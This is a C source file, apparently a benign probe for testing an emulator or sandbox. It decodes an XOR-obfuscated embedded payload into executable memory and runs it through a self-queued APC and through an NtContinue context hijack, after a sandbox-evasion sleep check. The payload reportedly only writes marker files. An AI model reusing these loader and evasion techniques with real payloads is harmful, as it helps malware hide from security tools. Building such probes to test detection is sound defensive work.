/*
 * loader.c - probe: shellcode run on the loader's own thread without a thread, a callback or a
 * call (benign, emulator-only; see ../../lineage-common/common.h). Two copies of the payload are
 * XOR-decoded from this program's data into RW memory and made RX:
 *   s1 ntdll!NtQueueApcThread(GetCurrentThread(), fn, ctx, 0, 0) + ntdll!NtTestAlert(): the
 *      queued APC runs at once                                              -> lineage_ntapc.txt
 *   s2 RtlCaptureContext + Rip = fn, Rcx = ctx, Rsp = a new stack whose return address is
 *      finish() + ntdll!NtContinue(&context, FALSE)                            -> lineage_ntcontinue.txt
 * First it sleeps 30 s with ntdll!NtDelayExecution and checks GetTickCount64 saw them pass (the
 * sleep-skipping check of sandbox-aware loaders).
 * Exit codes: 0 ok, 1 no marker, 3 memory, 4 an API missing, 5 NtContinue returned, 6 time.
 */
#include "common.h"
#include "blobs.h" /* payload_enc[]: the payload XOR 0x5a */

typedef LONG (NTAPI *NtQueueApcThread_t)(HANDLE, PVOID, PVOID, PVOID, PVOID);
typedef LONG (NTAPI *NtTestAlert_t)(void);
typedef LONG (NTAPI *NtContinue_t)(PCONTEXT, BOOLEAN);
typedef LONG (NTAPI *NtDelayExecution_t)(BOOLEAN, PLARGE_INTEGER);

static struct sc_ctx c1, c2;
static CONTEXT context;

static void *decode(void)
{
    DWORD i, old;
    unsigned char *code = (unsigned char *)VirtualAlloc(0, sizeof(payload_enc), MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!code)
        ExitProcess(3);
    for (i = 0; i < sizeof(payload_enc); i++)
        code[i] = payload_enc[i] ^ 0x5a;
    if (!VirtualProtect(code, sizeof(payload_enc), PAGE_EXECUTE_READ, &old))
        ExitProcess(3);
    return code;
}

static void finish(void)
{
    ExitProcess(0);
}

void Entry(void)
{
    HMODULE ntdll;
    NtQueueApcThread_t queue;
    NtTestAlert_t alert;
    NtContinue_t cont;
    NtDelayExecution_t delay;
    LARGE_INTEGER interval;
    ULONGLONG before;
    unsigned char *stack;
    ULONG_PTR *sp;

    if (!marker_present())
        ExitProcess(1);
    ntdll = GetModuleHandleA("ntdll.dll");
    queue = (NtQueueApcThread_t)(void *)GetProcAddress(ntdll, "NtQueueApcThread");
    alert = (NtTestAlert_t)(void *)GetProcAddress(ntdll, "NtTestAlert");
    cont = (NtContinue_t)(void *)GetProcAddress(ntdll, "NtContinue");
    delay = (NtDelayExecution_t)(void *)GetProcAddress(ntdll, "NtDelayExecution");
    if (!queue || !alert || !cont || !delay)
        ExitProcess(4);

    interval.QuadPart = -30LL * 10000000LL; /* 30 s, relative */
    before = GetTickCount64();
    delay(FALSE, &interval);
    if (GetTickCount64() - before < 29000)
        ExitProcess(6);

    fill_ctx(&c1, "C:\\Users\\Public\\lineage_ntapc.txt", "run as an APC delivered by NtTestAlert\n");
    queue(GetCurrentThread(), decode(), &c1, 0, 0);
    alert();

    fill_ctx(&c2, "C:\\Users\\Public\\lineage_ntcontinue.txt", "run by NtContinue with a new context\n");
    stack = (unsigned char *)VirtualAlloc(0, 0x10000, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!stack)
        ExitProcess(3);
    context.ContextFlags = CONTEXT_FULL;
    RtlCaptureContext(&context);
    sp = (ULONG_PTR *)(stack + 0x10000 - 0x108); /* 16-byte aligned + 8: as after a call */
    sp[0] = (ULONG_PTR)(void *)finish;
    context.Rsp = (DWORD64)(ULONG_PTR)sp;
    context.Rip = (DWORD64)(ULONG_PTR)decode();
    context.Rcx = (DWORD64)(ULONG_PTR)&c2;
    cont(&context, FALSE);
    ExitProcess(5);
}
